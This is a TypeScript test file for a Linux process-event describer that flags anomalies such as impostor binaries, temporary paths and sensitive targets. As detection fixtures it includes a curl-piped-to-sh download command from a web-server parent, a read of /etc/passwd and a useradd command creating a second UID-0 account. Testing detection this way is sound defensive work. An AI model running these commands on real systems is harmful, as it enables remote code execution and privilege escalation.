import { parseExpression } from "@winnow/expressions";
import { isFeatureFunction } from "@winnow/core";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { linuxProcess } from "../../src/index.ts";
import { describer } from "../describe.ts";

const describeEvent = describer(linuxProcess);

describe("linux-process", () => {
  it("declares each feature with a unit and one line about it, missing fields included", () => {
    const names = linuxProcess.catalogue.map(({ name }) => name);
    expect(new Set(names).size).toBe(names.length);
    for (const { doc, unit, value } of linuxProcess.catalogue) {
      expect(doc).toMatch(/(missing|none|without|for other programs|looks like nothing|is nothing)\b.*\.$/);
      if (!isFeatureFunction(value)) expect(parseExpression(value).type === "text").toBe(unit === "text");
    }
  });

  it("describes by place, template and targets unless told otherwise", async () => {
    const checked = await linuxProcess.options["~standard"].validate({});
    if (checked.issues !== undefined) throw new Error("refused");
    expect(linuxProcess.features(checked.value).map(({ name }) => name)).toEqual([
      "placeUnusual",
      "pathDepth",
      "templateLogLength",
      "templateTokens",
      "signShare",
      "sensitiveTarget",
    ]);
  });

  it("says of an ordinary event that nothing is unusual", () => {
    const fields = {
      "process.executable": "/usr/sbin/CRON",
      "process.parent.executable": "/usr/sbin/cron",
      "process.command_line": "/usr/sbin/CRON -f 12",
      "user.name": "root",
      "user.id": "0",
      "winlog.logon.id": "4294967295",
    };
    expect(describeEvent(fields)).toMatchObject({
      commandTemplate: "/usr/sbin/CRON -f <number>",
      parentChild: "cron > cron",
      pathPlace: "system",
      placeUnusual: 0,
      impostor: 0,
      lookAlike: 0,
      isSystemSession: 1,
      sessionKind: "system",
      accountKind: "administrator",
      sensitiveTarget: 0,
      encodedContent: 0,
      pathScore: [..."/usr/sbin/CRON"].reduce((sum, c) => sum + c.codePointAt(0)!, 0),
    });
  });

  it("says of a strange event what is strange", () => {
    const fields = {
      "process.executable": "/tmp/.x/sshd",
      "process.parent.executable": "/usr/sbin/nginx",
      "process.command_line": "bash -c 'curl http://10.0.0.1/x | sh'",
      "user.name": "www-data",
      "user.id": "33",
      "winlog.logon.id": "3",
    };
    expect(describeEvent(fields)).toMatchObject({
      pathPlace: "temporary",
      placeUnusual: 2,
      impostor: 1,
      hiddenPath: 1,
      parentOpensDocuments: 1,
      urls: 1,
      addresses: 1,
      sensitiveTarget: 2,
      sensitiveTargets: "download into a shell",
      accountKind: "service",
      humanAccount: 0,
      sessionKind: "user",
    });
  });

  it("tells a list of accounts that is read from accounts that are changed", () => {
    const targets = (commandLine: string): unknown =>
      describeEvent({ "process.command_line": commandLine })["sensitiveTargets"];
    expect(targets("cat /etc/passwd")).toBe("list of accounts");
    expect(targets("passwd eve")).toBe("accounts changed");
    expect(targets("sh -c '/usr/sbin/useradd -o -u 0 eve'")).toBe("accounts changed");
  });

  it("gives finite numbers and texts for anything", () => {
    const units = new Map(linuxProcess.catalogue.map(({ name, unit }) => [name, unit]));
    const hostile = fc.string({ unit: fc.constantFrom("/", ".", " ", "a", "[", "]", "0", "\0", "\ud800", "é", "😀") });
    fc.assert(
      fc.property(hostile, hostile, fc.bigInt({ min: 0n, max: 2n ** 60n }), (path, command, time) => {
        const described = describeEvent({
          "@timestamp": time,
          "process.executable": path,
          "process.parent.executable": command,
          "process.command_line": command,
          "user.name": path,
        });
        for (const [name, value] of Object.entries(described)) {
          if (units.get(name) === "text") expect(typeof value).toBe("string");
          else expect([name, Number.isFinite(value)]).toEqual([name, true]);
        }
      }),
    );
  });
});
